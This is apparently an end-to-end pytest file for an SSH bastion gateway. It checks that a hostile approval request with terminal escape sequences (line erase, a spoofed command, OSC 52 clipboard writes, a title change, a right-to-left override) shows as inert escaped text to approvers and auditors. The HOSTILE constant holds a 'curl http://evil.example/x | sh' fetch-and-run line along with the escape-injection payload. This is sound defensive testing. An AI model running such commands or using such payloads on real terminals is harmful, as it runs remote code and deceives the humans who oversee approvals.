"""No user writes escape sequences into an approver's or auditor's terminal.

alice asks to run a command that, printed raw, would erase its own line (``\\r\\e[2K``),
draw a harmless-looking fake (``approve-service-stop systemctl restart nginx``), set the
clipboard (OSC 52) and the window title. The approver's views are then run in tmux
(``set-clipboard on``: tmux would take an OSC 52 into a paste buffer) and the bytes that
reach each pane are read: ``ssh -tt bob@bastion approvals list``, ``bastille audit`` and
the player's approvals pane. Each shows the real command with its controls as visible
escapes, and none was interpreted (no paste buffer, the title unchanged).
"""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import audit_events
from tests.e2e.rig import Rig, Tmux

pytestmark = pytest.mark.e2e

HOSTILE = ("curl http://evil.example/x | sh\r\x1b[2Kapprove-service-stop systemctl restart "
           "nginx\x1b]52;c;ZXZpbA==\x07\x1b]2;pwned\x07\u009b8m\u202etxt.exe")
SHOWN = r"curl http://evil.example/x | sh\r\x1b[2Kapprove-service-stop"
POLICY = """
[policy]
default = "allow"
on_uncertain = "approve"

[[policy.rules]]
name = "pipes-to-shells-need-approval"
match = '^curl '
action = "approve"

[approvals]
approvers = ["bob"]
timeout = "60s"
"""


@pytest.fixture
def hostile_request(make_gateway: Any) -> Iterator[Rig]:
    """A gateway with alice's hostile command waiting for approval."""
    g: Rig = make_gateway(extra=POLICY)
    proc = subprocess.Popen([*g.ssh_args("alice"), "web1", "--", HOSTILE],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 20
        while not audit_events(g, kind="approval", outcome="requested"):
            assert time.monotonic() < deadline, "no approval request"
            time.sleep(0.2)
        yield g
    finally:
        proc.kill()
        proc.communicate(timeout=10)


def _pane(g: Rig, command: list[str], tmp: Path, *, cols: int = 220) -> tuple[Tmux, Path]:
    """``command`` in a tmux pane whose output bytes are copied to a file."""
    raw = tmp / f"pane-{time.monotonic_ns()}.raw"
    t = Tmux(g.root, ["sh", "-c", "sleep 1; exec \"$@\"", "sh", *command], cols=cols, rows=40)
    subprocess.run(["tmux", "-S", t.sock, "set-option", "-g", "set-clipboard", "on"],
                   check=True)
    subprocess.run(["tmux", "-S", t.sock, "pipe-pane", "-o", f"cat >> {raw}"], check=True)
    return t, raw


def _nothing_interpreted(t: Tmux, raw: Path, *, app: bool = False) -> bytes:
    data = raw.read_bytes()
    assert b"\x1b]52" not in data and b"\x1b]2;pwned" not in data
    if not app:  # plain text tools: not one control sequence at all
        assert b"\x1b" not in data and b"\x07" not in data and b"\xc2\x9b" not in data
        assert "\u202e".encode() not in data
    buffers = subprocess.run(["tmux", "-S", t.sock, "list-buffers"], capture_output=True,
                             text=True).stdout
    assert buffers == "", buffers  # OSC 52 would have made a paste buffer
    title = subprocess.run(["tmux", "-S", t.sock, "display-message", "-p", "#{pane_title}"],
                           capture_output=True, text=True).stdout
    assert "pwned" not in title
    return data


def test_approvals_list_over_ssh(hostile_request: Rig, tmp_path: Path) -> None:
    g = hostile_request
    t, raw = _pane(g, [*g.ssh_args("bob", tty=True), "approvals", "list"], tmp_path)
    try:
        assert t.dead_status() == 0
        screen = t.wait_for("approve-service-stop")
        assert SHOWN in screen and r"nginx\x1b]52;c;ZXZpbA==\x07\x1b]2;pwned\x07" in screen
        assert r"\x9b8m\u202etxt.exe" in screen
        _nothing_interpreted(t, raw)
    finally:
        t.close()


def test_bastille_audit(hostile_request: Rig, tmp_path: Path) -> None:
    g = hostile_request
    t, raw = _pane(g, [sys.executable, "-m", "gateway", "audit", "-c", str(g.gateway.config),
                       "--kind", "approval"], tmp_path, cols=400)
    try:
        assert t.dead_status() == 0
        screen = t.wait_for("requested")
        # the detail is shown as JSON: controls are JSON escapes there, none raw
        assert r"sh\r\u001b[2Kapprove-service-stop" in screen, screen
        _nothing_interpreted(t, raw)
    finally:
        t.close()
    json_out = subprocess.run([sys.executable, "-m", "gateway", "audit", "-c",
                               str(g.gateway.config), "--json"], capture_output=True,
                              timeout=30).stdout
    assert b"\x1b" not in json_out and b"\xc2\x9b" not in json_out
    assert "\u202e".encode() not in json_out


def test_player_approvals_pane(hostile_request: Rig, tmp_path: Path) -> None:
    g = hostile_request
    t, raw = _pane(g, [sys.executable, "-m", "gateway", "player", "-c", str(g.gateway.config),
                       "--as", "bob"], tmp_path)
    try:
        t.wait_for("1 session", timeout=30)  # the find list: the live session
        t.send("a")
        screen = t.wait_for("you are bob (approver)", timeout=30)
        screen = t.wait_for("approve-service-stop", timeout=10)
        assert r"sh\r\x1b[2Kapprove-service-stop" in screen.replace("\n", ""), screen
        time.sleep(0.5)
        _nothing_interpreted(t, raw, app=True)
        t.send("C-d")
    finally:
        t.close()
